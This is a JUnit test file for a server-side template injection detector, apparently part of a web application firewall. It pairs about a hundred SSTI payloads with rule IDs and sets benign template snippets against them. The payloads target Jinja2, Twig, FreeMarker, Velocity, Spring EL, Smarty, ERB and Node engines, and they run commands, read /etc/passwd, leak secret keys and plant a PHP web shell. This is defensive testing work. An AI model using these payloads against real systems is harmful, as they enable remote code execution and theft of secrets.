package ai.traceable.tme.engine.detect.ssti;

import static org.assertj.core.api.Assertions.assertThat;

import ai.traceable.tme.engine.detect.Detector;
import ai.traceable.tme.engine.detect.DetectorHarness;
import ai.traceable.tme.engine.detect.DetectorHarness.Report;
import ai.traceable.tme.engine.detect.DetectorTableTest;
import ai.traceable.tme.engine.inspect.Placement;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.provider.Arguments;

class SstiDetectorTest extends DetectorTableTest {
  private static final SstiDetector DETECTOR = new SstiDetector();

  @Override
  protected Detector detector() {
    return DETECTOR;
  }

  static Stream<Arguments> attacks() {
    return Stream.of(
        a(Placement.QUERY, "%7B%7B7*7%7D%7D", "ssti-120"),
        a(
            Placement.QUERY,
            "{{config.__class__.__init__.__globals__['os'].popen('ls').read()}}",
            "ssti-100"),
        a(Placement.QUERY, "{{''.__class__.__mro__[2].__subclasses__()}}", "ssti-100"),
        a(Placement.QUERY, "${7*7}", "ssti-120"),
        a(Placement.QUERY, "<%= 7*7 %>", "ssti-120"),
        a(Placement.QUERY, "#{7*7}", "ssti-120"),
        a(
            Placement.QUERY,
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
            "ssti-103"),
        a(
            Placement.QUERY,
            "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x",
            "ssti-104"),
        a(
            Placement.QUERY,
            "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
            "ssti-101"),
        a(
            Placement.QUERY,
            "{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}",
            "ssti-100"),
        a(Placement.QUERY, "${T(java.lang.Runtime).getRuntime().exec('whoami')}", "ssti-102"),
        a(Placement.QUERY, "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "ssti-102"),
        a(
            Placement.QUERY,
            "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
            "ssti-108"),
        a(Placement.QUERY, "{php}echo `id`;{/php}", "ssti-105"),
        a(
            Placement.QUERY,
            "@{ System.Diagnostics.Process.Start(\"cmd.exe\",\"/c calc\"); }",
            "ssti-109"),
        a(Placement.QUERY, "{{7*'7'}}", "ssti-120"),
        a(Placement.QUERY, "%257B%257B7*7%257D%257D", "ssti-120"),
        a(
            Placement.QUERY,
            "{{_self.env.registerUndefinedFilterCallback(\"system\")}}{{_self.env.getFilter(\"id\")}}",
            "ssti-107"),
        a(Placement.QUERY, "{{['cat /etc/passwd']|filter('system')}}", "ssti-107"),
        a(Placement.QUERY_NAME, "{{7*7}}", "ssti-120"),
        a(Placement.PATH, "/hello/${7*7}", "ssti-120"),
        a(Placement.JSON, "Hi {{config.items()}}", "ssti-101"),
        a(
            Placement.JSON,
            "{{''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('id').read()}}",
            "ssti-100"),
        a(Placement.JSON, "${\"freemarker.template.utility.Execute\"?new()(\"id\")}", "ssti-103"),
        a(Placement.JSON, "\\u007b\\u007b7*7\\u007d\\u007d", "ssti-120"),
        a(Placement.FORM, "%7B%7B7*7%7D%7D", "ssti-120"),
        a(Placement.FORM, "%3C%25%3D+%60id%60+%25%3E", "ssti-106"),
        a(
            Placement.FORM,
            "%23%7BT%28java.lang.Runtime%29.getRuntime%28%29.exec%28%27id%27%29%7D",
            "ssti-102"),
        a(Placement.MULTIPART, "{{lipsum.__globals__['os'].popen('id').read()}}", "ssti-101"),
        a(Placement.MULTIPART, "{{7*7}}.jpg", "ssti-120"),
        a(
            Placement.XML,
            "<t>#set($e=\"x\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")</t>",
            "ssti-104"),
        a(Placement.HEADER, "${7*191}", "ssti-120"),
        a(
            Placement.HEADER,
            "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
            "ssti-101"),
        a(
            Placement.COOKIE,
            "%7B%7Bcycler.__init__.__globals__.os.popen('id').read()%7D%7D",
            "ssti-100"),
        a(Placement.JSON, "{{ joiner.__init__.__globals__.os.popen('id').read() }}", "ssti-100"),
        a(Placement.JSON, "<%= File.read('/etc/passwd') %>", "ssti-106"),
        a(Placement.JSON, "${{7*7}}", "ssti-120"),
        a(Placement.QUERY, "*{7*7}", "ssti-120"),
        a(Placement.QUERY, "@(7*7)", "ssti-120"),
        a(Placement.QUERY, "{{config}}", "ssti-122"),
        a(Placement.JSON, "{% import os %}{{ os.popen('id').read() }}", "ssti-110"),
        a(Placement.JSON, "${self.module.cache.util.os.system('id')}", "ssti-110"),
        a(Placement.JSON, "<%import os%>${os.system('id')}", "ssti-110"),
        a(Placement.JSON, "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}", "ssti-100"),
        a(
            Placement.JSON,
            "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
            "ssti-102"),
        a(
            Placement.JSON,
            "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
            "ssti-100"),
        a(
            Placement.JSON,
            "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().getPath()}",
            "ssti-102"),
        a(Placement.QUERY, "{$smarty.version}", "ssti-122"),
        a(Placement.QUERY, "{system('id')}", "ssti-105"),
        a(
            Placement.JSON,
            "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
            "ssti-108"),
        a(Placement.QUERY, "{{ 7 * 7 }}", "ssti-120"),
        a(Placement.QUERY, "{{1337*1337}}", "ssti-120"),
        a(Placement.JSON, "{{ self.__init__.__globals__.__builtins__ }}", "ssti-100"),
        a(
            Placement.JSON,
            "{{ get_flashed_messages.__globals__['current_app'].config }}",
            "ssti-101"),
        a(Placement.QUERY, "#{session.getClass().getClassLoader()}", "ssti-102"),
        a(Placement.QUERY, "${applicationScope}", "ssti-122"),
        a(Placement.QUERY, "<%= IO.popen('id').readlines() %>", "ssti-106"),
        a(Placement.QUERY, "{{\"\".__class__.__bases__[0].__subclasses__()}}", "ssti-100"),
        a(Placement.QUERY, "{{x.__init__.__globals__}}", "ssti-100"),
        a(Placement.QUERY, "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "ssti-100"),
        a(
            Placement.QUERY,
            "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
            "ssti-100"),
        a(
            Placement.QUERY,
            "{{ config.__class__.from_envvar.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "ssti-100"),
        a(
            Placement.QUERY,
            "{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{%endif%}{%endfor%}",
            "ssti-100"),
        a(Placement.QUERY, "${T(java.lang.System).getenv()}", "ssti-102"),
        a(
            Placement.QUERY,
            "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}",
            "ssti-102"),
        a(Placement.QUERY, "${@java.lang.Runtime@getRuntime().exec('id')}", "ssti-102"),
        a(Placement.QUERY, "<% import os; x=os.popen('id').read() %>${x}", "ssti-110"),
        a(
            Placement.QUERY,
            "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
            "ssti-108"),
        a(
            Placement.QUERY,
            "<%= global.process.mainModule.require('child_process').execSync('id') %>",
            "ssti-108"),
        a(Placement.QUERY, "#set($str=$class.inspect(\"java.lang.String\").type)", "ssti-104"),
        a(
            Placement.QUERY,
            "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"id\").start()}",
            "ssti-103"),
        a(
            Placement.QUERY,
            "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}",
            "ssti-105"),
        a(Placement.QUERY, "{{['id']|map('system')|join}}", "ssti-107"),
        a(Placement.QUERY, "{{['cat /etc/passwd']|filter('passthru')}}", "ssti-107"),
        a(
            Placement.QUERY,
            "{{app.request.query.filter(0,'curl x.example',1024,{'options':'system'})}}",
            "ssti-107"),
        a(Placement.QUERY, "{{ settings.SECRET_KEY }}", "ssti-121"),
        a(Placement.QUERY, "{% debug %}", "ssti-121"),
        a(Placement.QUERY, "{{ request.environ }}", "ssti-101"),
        a(Placement.QUERY, "<%= 7 * 7 %>", "ssti-120"),
        a(Placement.QUERY, "${{<%[%'\"}}%\\.", "ssti-120"),
        a(Placement.QUERY, "{{ '7'*7 }}", "ssti-120"),
        a(Placement.QUERY, "{{=7*7}}", "ssti-120"),
        a(Placement.QUERY, "[[${7*7}]]", "ssti-120"),
        a(Placement.QUERY, "{{ self.__dict__ }}", "ssti-101"),
        a(
            Placement.QUERY,
            "{{ get_flashed_messages.__globals__.__builtins__.open(\"/etc/passwd\").read() }}",
            "ssti-101"),
        a(
            Placement.QUERY,
            "{{ url_for.__globals__['__builtins__']['eval'](\"__import__('os').popen('id').read()\") }}",
            "ssti-101"),
        a(Placement.QUERY, "${class.getResource(\"\").getPath()}", "ssti-102"),
        a(Placement.QUERY, "${request.getClass().getClassLoader()}", "ssti-102"),
        a(Placement.QUERY, "#{''.getClass().forName('java.lang.Runtime')}", "ssti-104"),
        a(
            Placement.QUERY,
            "{{\"\".constructor.prototype.charAt=[].join;$eval('x=alert(1)')}}",
            "ssti-110"),
        a(
            Placement.QUERY,
            "<#assign classloader=article.class.protectionDomain.classLoader>",
            "ssti-102"),
        a(
            Placement.QUERY,
            "${\"\".getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}",
            "ssti-104"),
        a(
            Placement.QUERY,
            "{{ lipsum|attr(\"__globals__\")|attr(\"__getitem__\")(\"os\") }}",
            "ssti-100"),
        a(
            Placement.JSON,
            "Dear {{ user.name }}, {{ ''.__class__.__mro__[1].__subclasses__() }}",
            "ssti-100"),
        a(Placement.HEADER, "{{7*7}}", "ssti-120"),
        a(Placement.COOKIE, "session={{7*7}}", "ssti-120"));
  }

  static Stream<Arguments> benign() {
    return Stream.of(
        b(Placement.JSON, "Hello {{name}}"),
        b(Placement.JSON, "{{ user.first_name }}"),
        b(Placement.JSON, "Dear ${firstName}"),
        b(Placement.JSON, "Total: $10"),
        b(Placement.JSON, "${HOME}/dir"),
        b(Placement.JSON, "#{id}"),
        b(Placement.JSON, "{{#each items}}<li>{{this}}</li>{{/each}}"),
        b(Placement.JSON, "{{#section}}x{{/section}}{{^empty}}none{{/empty}}"),
        b(Placement.JSON, "{% if user %}Hi {{ user.name }}{% endif %}"),
        b(Placement.QUERY, "Welcome, {{first_name}}!"),
        b(
            Placement.JSON,
            "Hello {{name}},\n\nYour order #{{order.id}} ships on {{order.ship_date | date: \"%b %d\"}}.\n\n{% if coupon %}Use code {{coupon}} for 10% off.{% endif %}"),
        b(
            Placement.JSON,
            "{% for item in cart.items %}\n  <li>{{ item.title }} \u00d7 {{ item.quantity }} \u2014 {{ item.line_price | money }}</li>\n{% endfor %}"),
        b(
            Placement.JSON,
            "{{#each items}}<tr><td>{{this.name}}</td><td>{{formatPrice this.price}}</td></tr>{{/each}}"),
        b(Placement.JSON, "- run: echo \"sha=${{ github.sha }}\" >> $GITHUB_OUTPUT"),
        b(Placement.JSON, "spring.datasource.url=${DB_URL:jdbc:postgresql://localhost:5432/app}"),
        b(
            Placement.JSON,
            "{% extends 'base.html' %}\n{% block content %}\n  <h1>{{ page.title }}</h1>\n  {{ page.body | safe }}\n{% endblock %}"),
        b(Placement.JSON, "const tpl = `Hello ${user.name}, you have ${count} new messages`;"),
        b(Placement.JSON, "<File name=\"App\" fileName=\"${sys:log.dir}/app.log\"/>"),
        b(Placement.JSON, "RewriteCond %{HTTPS} off"),
        b(Placement.JSON, "{\"a\":{\"b\":{\"c\":1}}}"),
        b(Placement.JSON, "class Foo:\n    def __init__(self):\n        self.x = 1"),
        b(Placement.JSON, "Ratio is 3:2; see footnote [1] & appendix {A}."),
        b(Placement.JSON, ".btn{color:red} *{margin:0}"),
        b(Placement.JSON, "Email me @(home) or at work"),
        b(Placement.JSON, "<#list items as item>${item}</#list>"),
        b(Placement.JSON, "{{ url_for('static', filename='style.css') }}"),
        b(Placement.JSON, "{{ 'now' | date: \"%Y\" }}"),
        b(Placement.JSON, "<%= user.name %>"),
        b(Placement.JSON, "Price: ${price * qty}"),
        b(Placement.JSON, "a*{2,3}"),
        b(Placement.JSON, "{{ 3 }} items"),
        b(Placement.JSON, "Use {{ and }} around placeholders"),
        b(Placement.JSON, "function f() { return {a: 1}; }"),
        b(Placement.JSON, "{{> header}}{{! a comment }}"),
        b(Placement.JSON, ".btn { color: #{$primary-color}; }"),
        b(Placement.JSON, "Order {{order.number}}: {{order.total | currency}}"),
        b(Placement.JSON, "5 * 7 = 35 and {x} is a set"),
        b(
            Placement.HEADER,
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36"),
        b(Placement.COOKIE, "ui=%7B%22sidebar%22%3Atrue%2C%22theme%22%3A%22dark%22%7D"),
        b(Placement.QUERY, "{\"q\":\"shoes\",\"page\":2}"),
        b(Placement.JSON, "The __init__ method runs when an object is created."),
        b(Placement.JSON, "Config: {{ settings.site_name }}"),
        b(Placement.JSON, "<% if (user) { %><p><%= user.name %></p><% } %>"),
        b(Placement.JSON, "Hi @(Model.FirstName), welcome back"),
        b(Placement.JSON, "#set($greeting = \"Hello\")\n$greeting $name"));
  }

  @Test
  void probeInsideProseNeedsASecondSignal() {
    Report outcome = DetectorHarness.run(DETECTOR, Placement.JSON, "What does {{7*7}} print?");
    assertThat(outcome.ids(1)).containsExactly("ssti-120");
    assertThat(outcome.blocks()).isFalse();
  }

  @Test
  void plainTemplatesOnlyShowAtParanoiaThree() {
    Report outcome =
        DetectorHarness.run(
            DETECTOR, Placement.JSON, "Hello {{name}}, {% if vip %}welcome{% endif %}");
    assertThat(outcome.ids(2)).isEmpty();
    assertThat(outcome.ids(3)).containsExactly("ssti-150");
  }

  @Test
  void expressionsWithFiltersShowAtParanoiaTwo() {
    Report outcome =
        DetectorHarness.run(DETECTOR, Placement.JSON, "Total: {{ order.total | currency: 'EUR' }}");
    assertThat(outcome.ids(1)).isEmpty();
    assertThat(outcome.ids(2)).containsExactly("ssti-140");
  }

  @Test
  void ordinaryValuesReportNothing() {
    for (String v : new String[] {"42", "john@example.com", "/api/v1/users", "", "a_b"}) {
      assertThat(DetectorHarness.run(DETECTOR, Placement.QUERY, v).findings()).isEmpty();
    }
  }
}
